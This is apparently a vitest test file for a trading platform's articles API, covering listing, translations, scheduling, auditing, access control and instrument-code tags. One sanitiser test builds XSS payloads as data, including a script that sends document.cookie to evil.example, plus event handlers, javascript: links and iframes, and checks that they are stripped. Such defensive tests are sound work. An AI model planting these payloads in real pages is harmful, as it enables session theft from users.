import type { AdminArticle, Article, ArticlePage, DictEntry } from '@tradewind/contract';
import { asc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog } from '../../db/schema.js';
import { adminToken, call, createTestContext, registerUser, type TestContext } from '../../../test/test-app.js';
import { shownField } from '../../../test/shown-field.js';

let ctx: TestContext;
let admin: string;

beforeAll(async () => {
  ctx = await createTestContext();
  admin = await adminToken(ctx.app);
});
afterAll(() => ctx.close());

const draft = (title: string, extra: Record<string, unknown> = {}) => ({
  kind: 'news',
  tag: 'markets',
  translations: { en: { title, summary: `${title} summary`, content: `<p>${title} body</p>` } },
  ...extra,
});

async function createPublished(body: unknown): Promise<AdminArticle> {
  const created = await call<AdminArticle>(ctx.app, 'POST', '/admin/articles', { token: admin, body });
  expect(created.code, created.msg).toBe(200);
  const published = await call<AdminArticle>(ctx.app, 'POST', `/admin/articles/${created.data.id}/publish`, { token: admin, body: {} });
  expect(published.data.status).toBe('published');
  return published.data;
}

describe('articles: reading', () => {
  it('seeds at least six news and three notices, each in several languages', async () => {
    const news = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { kind: 'news', pageSize: 50 } });
    const notices = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { kind: 'notice', pageSize: 50 } });
    expect(news.data.total).toBeGreaterThanOrEqual(6);
    expect(notices.data.total).toBeGreaterThanOrEqual(3);
    const all = await call<AdminArticle[]>(ctx.app, 'GET', '/admin/articles', { token: admin });
    for (const article of all.data) expect(Object.keys(article.translations).length).toBeGreaterThanOrEqual(5);
  });

  it('pages newest first and filters by a tag of the article_tag dictionary, labelled in the caller’s language', async () => {
    const dict = await call<DictEntry[]>(ctx.app, 'GET', '/dict/data?dictType=article_tag', { headers: { languages: 'de' } });
    expect(dict.data.map((d) => d.dictValue)).toEqual(['markets', 'earnings', 'products', 'education', 'platform']);
    expect(dict.data[0]).toMatchObject({ dictType: 'article_tag', dictLabel: 'Märkte', dictSort: 1 });

    const first = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { pageNum: 1, pageSize: 4 } });
    const second = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { pageNum: 2, pageSize: 4 } });
    expect(first.data.list).toHaveLength(4);
    expect(first.data.total).toBe(second.data.total);
    const times = [...first.data.list, ...second.data.list].map((a) => a.publishTimestamp);
    expect(times).toEqual([...times].sort((a, b) => b - a));
    expect(new Set([...first.data.list, ...second.data.list].map((a) => a.id)).size).toBe(first.data.list.length + second.data.list.length);

    const education = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { tag: 'education' } });
    expect(education.data.total).toBeGreaterThanOrEqual(2);
    expect(education.data.list.every((a) => a.tag === 'education' && a.tagLabel === 'Learn')).toBe(true);
  });

  it('serves the caller’s language and falls back to English where the article has no translation', async () => {
    const page = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { kind: 'notice', pageSize: 50 } });
    const scams = page.data.list.find((a) => a.title.startsWith('Beware of scams'))!;
    const ja = await call<Article>(ctx.app, 'GET', `/article/${scams.id}`, { headers: { languages: 'ja' } });
    expect(ja.data).toMatchObject({ locale: 'ja', title: 'Tradewindをかたる詐欺にご注意ください', tagLabel: 'お知らせ' });
    expect(ja.data.content).toContain('<strong>決して</strong>');
    const zhTW = await call<Article>(ctx.app, 'GET', `/article/${scams.id}`, { headers: { 'accept-language': 'zh-TW,zh;q=0.9' } });
    expect(zhTW.data.locale).toBe('zh-TW');

    // The seeded news are not in Thai: a Thai reader gets English, with the tag label still in Thai.
    const news = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { kind: 'news', pageSize: 1 }, headers: { languages: 'th' } });
    expect(news.data.list[0]).toMatchObject({ locale: 'en' });
    const detail = await call<Article>(ctx.app, 'GET', `/article/${news.data.list[0]!.id}`, { headers: { languages: 'th' } });
    expect(detail.data.locale).toBe('en');
    expect(detail.data.tagLabel).toBe('ตลาด');
  });

  it('refuses bad input with a 400 naming the field', async () => {
    const badTag = await call(ctx.app, 'POST', '/article/pageList', { body: { tag: 'gossip' } });
    expect(badTag.code).toBe(400);
    expect(badTag.msg).toContain('tag');
    const badPage = await call(ctx.app, 'POST', '/article/pageList', { body: { pageSize: 500 } });
    expect(badPage.code).toBe(400);
    expect(badPage.msg).toContain('Page size');
    const badDict = await call(ctx.app, 'GET', '/dict/data?dictType=colours');
    expect(badDict.code).toBe(400);
    expect(badDict.msg).toContain('dict type');
    expect((await call(ctx.app, 'GET', '/article/abc')).code).toBe(400);
    expect((await call(ctx.app, 'GET', '/article/999999')).code).toBe(404);
  });
});

describe('articles: back office', () => {
  it('stored HTML with scripts, event handlers, javascript: links and iframes comes back clean, even when written around the service', async () => {
    const hostile =
      '<p onmouseover="steal()">Rates held.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
      '<img src="https://cdn.example/chart.png" onerror="alert(1)"><a href="javascript:alert(1)">click</a>' +
      '<a href="https://www.federalreserve.gov">Statement</a><iframe src="https://evil.example"></iframe>' +
      '<p style="background:url(https://evil.example/t.gif)">styled</p>';
    const article = await createPublished(draft('<b>Fed</b> holds', { translations: { en: { title: '<b>Fed</b> holds', summary: '<i>Quiet</i> day', content: hostile } } }));
    const read = await call<Article>(ctx.app, 'GET', `/article/${article.id}`);
    for (const content of [read.data.content, article.translations.en!.content]) {
      expect(content).not.toMatch(/<script|onerror|onmouseover|javascript:|<iframe|style=|url\(/i);
      expect(content).toContain('<img src="https://cdn.example/chart.png" />');
      expect(content).toContain('<a href="https://www.federalreserve.gov" target="_blank" rel="noopener noreferrer nofollow">Statement</a>');
    }
    expect(read.data.title).toBe('Fed holds');
    expect(read.data.summary).toBe('Quiet day');

    // A row written straight into the database (a restore, a migration, a bug) is cleaned on the way out too.
    await ctx.app.database.db.execute(sql`UPDATE article_translations SET body = '<p>x</p><script>alert(1)</script><img src=x onerror=alert(1)>' WHERE article_id = ${article.id}`);
    const again = await call<Article>(ctx.app, 'GET', `/article/${article.id}`);
    expect(again.data.content).not.toMatch(/<script|onerror/i);
  });

  it('refuses a body that is nothing but disallowed HTML, naming the translation', async () => {
    const answer = await call(ctx.app, 'POST', '/admin/articles', { token: admin, body: draft('Empty', { translations: { en: { title: 'Empty', summary: '', content: '<script>alert(1)</script>' } } }) });
    expect(answer.code).toBe(400);
    expect(answer.msg).toContain('translations.en.content');
    const noEnglish = await call(ctx.app, 'POST', '/admin/articles', { token: admin, body: { kind: 'news', tag: 'markets', translations: { de: { title: 'Nur Deutsch', summary: '', content: '<p>x</p>' } } } });
    expect(noEnglish.code).toBe(400);
    expect(noEnglish.msg).toContain('translations.en');
    const badKind = await call(ctx.app, 'POST', '/admin/articles', { token: admin, body: draft('Kind', { kind: 'rumour' }) });
    expect(badKind.code).toBe(400);
    expect(badKind.msg).toContain('kind');
  });

  it('keeps drafts and scheduled articles from readers until their time, then shows them; unpublishing hides them again', async () => {
    const created = await call<AdminArticle>(ctx.app, 'POST', '/admin/articles', { token: admin, body: draft('Quarterly outlook') });
    const id = created.data.id;
    expect(created.data.status).toBe('draft');
    expect((await call(ctx.app, 'GET', `/article/${id}`)).code).toBe(404);

    const inAnHour = Math.floor(ctx.clock.now().getTime() / 1000) + 3600;
    const scheduled = await call<AdminArticle>(ctx.app, 'POST', `/admin/articles/${id}/publish`, { token: admin, body: { publishAt: inAnHour } });
    expect(scheduled.data).toMatchObject({ status: 'scheduled', publishTimestamp: inAnHour });
    expect((await call(ctx.app, 'GET', `/article/${id}`)).code).toBe(404);
    const listed = async () => (await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { pageSize: 50 } })).data.list.some((a) => a.id === id);
    expect(await listed()).toBe(false);

    ctx.clock.advance(3600_000);
    expect((await call<Article>(ctx.app, 'GET', `/article/${id}`)).data.title).toBe('Quarterly outlook');
    expect(await listed()).toBe(true);

    const past = await call(ctx.app, 'POST', `/admin/articles/${id}/publish`, { token: admin, body: { publishAt: 1000 } });
    expect(past.code).toBe(400);
    expect(past.msg).toContain('publish at');

    expect((await call<AdminArticle>(ctx.app, 'POST', `/admin/articles/${id}/unpublish`, { token: admin, body: {} })).data.status).toBe('draft');
    expect((await call(ctx.app, 'GET', `/article/${id}`)).code).toBe(404);
  });

  it('translates: a German reader gets the German version once it is added; a locale left out again falls back to English', async () => {
    const article = await createPublished(draft('Earnings calendar'));
    const read = (lang: string) => call<Article>(ctx.app, 'GET', `/article/${article.id}`, { headers: { languages: lang } });
    expect((await read('de')).data.locale).toBe('en');
    const translations = { en: { title: 'Earnings calendar', summary: 'Who reports this week', content: '<p>Week ahead</p>' }, de: { title: 'Berichtskalender', summary: 'Wer diese Woche berichtet', content: '<p>Die Woche</p>' } };
    const edited = await call<AdminArticle>(ctx.app, 'POST', `/admin/articles/${article.id}`, { token: admin, body: { kind: 'news', tag: 'earnings', translations } });
    expect(edited.data).toMatchObject({ status: 'published', tag: 'earnings' });
    expect((await read('de')).data).toMatchObject({ locale: 'de', title: 'Berichtskalender', content: '<p>Die Woche</p>' });
    await call(ctx.app, 'POST', `/admin/articles/${article.id}`, { token: admin, body: { kind: 'news', tag: 'earnings', translations: { en: translations.en } } });
    expect((await read('de')).data).toMatchObject({ locale: 'en', title: 'Earnings calendar' });
  });

  it('audits every change', async () => {
    const article = await createPublished(draft('Audited'));
    await call(ctx.app, 'POST', `/admin/articles/${article.id}/unpublish`, { token: admin, body: {} });
    const rows = await ctx.app.database.db.select().from(auditLog).where(eq(auditLog.subject, `article:${article.id}`)).orderBy(asc(auditLog.id));
    expect(rows.map((r) => r.action)).toEqual(['article.create', 'article.publish', 'article.unpublish']);
  });

  it('refuses the back office calls to a user (403) and to a visitor (401)', async () => {
    const { token } = await registerUser(ctx.app);
    const calls: Array<['GET' | 'POST', string, unknown?]> = [
      ['GET', '/admin/articles'],
      ['GET', '/admin/articles/1'],
      ['POST', '/admin/articles', draft('Nope')],
      ['POST', '/admin/articles/1', draft('Nope')],
      ['POST', '/admin/articles/1/publish', {}],
      ['POST', '/admin/articles/1/unpublish', {}],
    ];
    for (const [method, url, body] of calls) {
      expect((await call(ctx.app, method, url, { token, body })).code, url).toBe(403);
      expect((await call(ctx.app, method, url, { body })).code, url).toBe(401);
    }
  });
});

describe('articles: about instruments (issue 20)', () => {
  it('seeds the demo news tagged with instrument codes: AAPL’s quote page has news, notices are about none', async () => {
    const aapl = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'AAPL' } });
    expect(aapl.code, aapl.msg).toBe(200);
    expect(aapl.data.total).toBeGreaterThanOrEqual(1);
    expect(aapl.data.list.every((a) => a.codes.includes('AAPL'))).toBe(true);
    const notices = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { kind: 'notice', pageSize: 50 } });
    expect(notices.data.list.every((a) => a.codes.length === 0)).toBe(true);
  });

  it('lists only the articles tagged with the code, newest first, paged; the code is matched in capitals', async () => {
    const older = await createPublished(draft('Older TSLA story', { codes: ['TSLA', 'F'] }));
    ctx.clock.advance(60_000);
    const newer = await createPublished(draft('Newer TSLA story', { codes: ['tsla'] }));
    ctx.clock.advance(60_000);
    await createPublished(draft('A Ford-only story', { codes: ['F'] }));
    expect(older.codes).toEqual(['TSLA', 'F']);
    expect(newer.codes).toEqual(['TSLA']);

    const page = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'tsla', pageSize: 1 } });
    expect(page.code, page.msg).toBe(200);
    expect(page.data.total).toBe(2);
    expect(page.data.list.map((a) => a.id)).toEqual([newer.id]);
    const second = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'TSLA', pageNum: 2, pageSize: 1 } });
    expect(second.data.list.map((a) => a.id)).toEqual([older.id]);
    expect(second.data.list[0]!.codes).toEqual(['TSLA', 'F']);

    const ford = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'F', pageSize: 50 } });
    expect(ford.data.list.map((a) => a.title)).toEqual(['A Ford-only story', 'Older TSLA story']);
    const none = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'BAC' } });
    expect(none.data).toMatchObject({ list: [], total: 0 });
  });

  it('a draft tagged with a code stays off the quote page until it is published', async () => {
    const created = await call<AdminArticle>(ctx.app, 'POST', '/admin/articles', { token: admin, body: draft('Draft about USDJPY', { codes: ['USDJPY'] }) });
    expect(created.data.codes).toEqual(['USDJPY']);
    const before = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'USDJPY', pageSize: 50 } });
    expect(before.data.list.some((a) => a.id === created.data.id)).toBe(false);
    await call(ctx.app, 'POST', `/admin/articles/${created.data.id}/publish`, { token: admin, body: {} });
    const after = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'USDJPY', pageSize: 50 } });
    expect(after.data.list[0]!.id).toBe(created.data.id);
  });

  it('editing replaces the codes, in the editor’s order, duplicates dropped; the detail carries them', async () => {
    const article = await createPublished(draft('Retagged story', { codes: ['NVDA'] }));
    const edited = await call<AdminArticle>(ctx.app, 'POST', `/admin/articles/${article.id}`, { token: admin, body: draft('Retagged story', { codes: ['AMD', 'NVDA', 'AMD'] }) });
    expect(edited.code, edited.msg).toBe(200);
    expect(edited.data.codes).toEqual(['AMD', 'NVDA']);
    const detail = await call<Article>(ctx.app, 'GET', `/article/${article.id}`);
    expect(detail.data.codes).toEqual(['AMD', 'NVDA']);
    const cleared = await call<AdminArticle>(ctx.app, 'POST', `/admin/articles/${article.id}`, { token: admin, body: draft('Retagged story', { codes: [] }) });
    expect(cleared.data.codes).toEqual([]);
    const amd = await call<ArticlePage>(ctx.app, 'POST', '/article/pageList', { body: { code: 'AMD', pageSize: 50 } });
    expect(amd.data.list.some((a) => a.id === article.id)).toBe(false);
  });

  it('refuses a code the catalog does not list, in the caller’s language, naming the field, and writes nothing', async () => {
    const before = await call<AdminArticle[]>(ctx.app, 'GET', '/admin/articles', { token: admin });
    const refused = await call(ctx.app, 'POST', '/admin/articles', { token: admin, body: draft('Nope', { codes: ['AAPL', 'NOPE'] }) });
    expect(refused.code).toBe(400);
    expect(refused.msg).toContain(shownField('codes'));
    expect(refused.msg).toContain('NOPE');
    const german = await call(ctx.app, 'POST', '/admin/articles', { token: admin, headers: { languages: 'de' }, body: draft('Nope', { codes: ['NOPE'] }) });
    expect(german.msg).toBe('Instrumentkürzel: kein Instrument mit dem Kürzel NOPE');
    // A futures contract month is quoted on its root's series; its news are the root's.
    const month = await call(ctx.app, 'POST', '/admin/articles', { token: admin, body: draft('Month', { codes: ['GCZ27'] }) });
    expect(month.code).toBe(400);
    const malformed = await call(ctx.app, 'POST', '/admin/articles', { token: admin, body: draft('Bad', { codes: ['no spaces'] }) });
    expect(malformed.code).toBe(400);
    expect(malformed.msg).toContain(shownField('codes'));
    const after = await call<AdminArticle[]>(ctx.app, 'GET', '/admin/articles', { token: admin });
    expect(after.data.length).toBe(before.data.length);

    const existing = await createPublished(draft('Keeps its codes', { codes: ['MSFT'] }));
    const badEdit = await call(ctx.app, 'POST', `/admin/articles/${existing.id}`, { token: admin, body: draft('Changed title', { codes: ['NOPE'] }) });
    expect(badEdit.code).toBe(400);
    const kept = await call<AdminArticle>(ctx.app, 'GET', `/admin/articles/${existing.id}`, { token: admin });
    expect(kept.data.codes).toEqual(['MSFT']);
    expect(kept.data.translations.en?.title).toBe('Keeps its codes');

    const badFilter = await call(ctx.app, 'POST', '/article/pageList', { body: { code: 'not a code!' } });
    expect(badFilter.code).toBe(400);
    expect(badFilter.msg).toContain(shownField('code'));
  });
});
